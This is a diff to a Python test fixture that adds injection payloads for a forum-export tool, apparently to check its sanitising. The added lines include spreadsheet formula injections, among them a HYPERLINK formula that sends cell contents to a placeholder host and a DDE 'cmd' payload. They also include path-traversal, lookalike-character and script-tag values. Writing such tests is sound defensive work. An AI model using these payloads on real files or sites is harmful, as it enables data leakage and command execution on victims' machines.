@@ -126,7 +126,40 @@ TAG_PAYLOADS: tuple[str, ...] = (
     '"><script>alert(404)</script>',
     "ww{: onclick=alert(405) }",
     "<!-- werkcafe:matrix -->",
+    # spreadsheet formulas, for tallies.csv (opened in Excel by a cliëntenraad)
+    '=HYPERLINK("https://example.invalid/?x="&A1,"klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)",
+    "\t=1+1",
+    "\r=1+1",
 )
+
+# Municipality tags (`gemeente-<slug>`, data/gemeenten.yml), one list per topic in turn: only
+# a topic with exactly one tag that matches a municipality's tag as it is gets placed there.
+# Traversal, case, trailing space, Cyrillic and full-width lookalikes (the full-width one is
+# "utrecht" after NFKC), zero-width space, percent-encoding, a very long tag, two real tags.
+GEMEENTE_TAGS: tuple[tuple[str, ...], ...] = (
+    ("gemeente-utrecht",),
+    ("gemeente-../../x",),
+    ("gemeente-utrecht",),
+    ("Gemeente-Amsterdam",),
+    ("gemeente-utrecht", "gemeente-amsterdam"),
+    ("gemeente-utr\u0435cht",),
+    ("gemeente-" + "a" * 3000,),
+    ("gemeente-\uff55trecht",),
+    ("gemeente-utrecht",),
+    ("gemeente-groningen\u200b",),
+    ("gemeente-%2e%2e%2fx",),
+    ("gemeente-amsterdam", "gemeente-amsterdam "),
+    ("gemeente-<img src=x onerror=alert(601)>",),
+    ("gemeente-utrecht", "gemeente-utrecht"),
+)
+# The one municipality each entry above places a topic in (None: nowhere). A malformed tag
+# counts for nothing, also beside a real one ("gemeente-amsterdam " places no second one).
+GEMEENTE_PLACED: tuple[str | None, ...] = (
+    "GM0344", None, "GM0344", None, None, None, None, None, "GM0344", None, None, "GM0363",
+    None, "GM0344")
 
 USER_NAME_PAYLOADS: tuple[str, ...] = (
     "<img src=x onerror=alert(501)>",
@@ -141,7 +174,7 @@ START = datetime(2026, 3, 2, 9, tzinfo=UTC)
 
 def payload_count() -> int:
     return (len(TEXT_PAYLOADS) + len(COOKED_PAYLOADS) + len(CATEGORY_PAYLOADS)
-            + len(TAG_PAYLOADS) + len(USER_NAME_PAYLOADS))
+            + len(TAG_PAYLOADS) + len(USER_NAME_PAYLOADS) + len(GEMEENTE_TAGS))
 
 
 def extra_category_slugs() -> list[str]:
@@ -181,7 +214,8 @@ def build_forum() -> Forum:
             id=topic_id, title=payload, category_id=category_ids[index % len(category_ids)],
             user_id=posts[0].user_id, created_at=created, bumped_at=posts[-1].created_at,
             slug=f"injectie-{index}",
-            tags=[*REAL_TAGS[index % len(REAL_TAGS)], TAG_PAYLOADS[index % len(TAG_PAYLOADS)]],
+            tags=[*REAL_TAGS[index % len(REAL_TAGS)], TAG_PAYLOADS[index % len(TAG_PAYLOADS)],
+                  *GEMEENTE_TAGS[index % len(GEMEENTE_TAGS)]],
             posts=posts)
     return forum
 
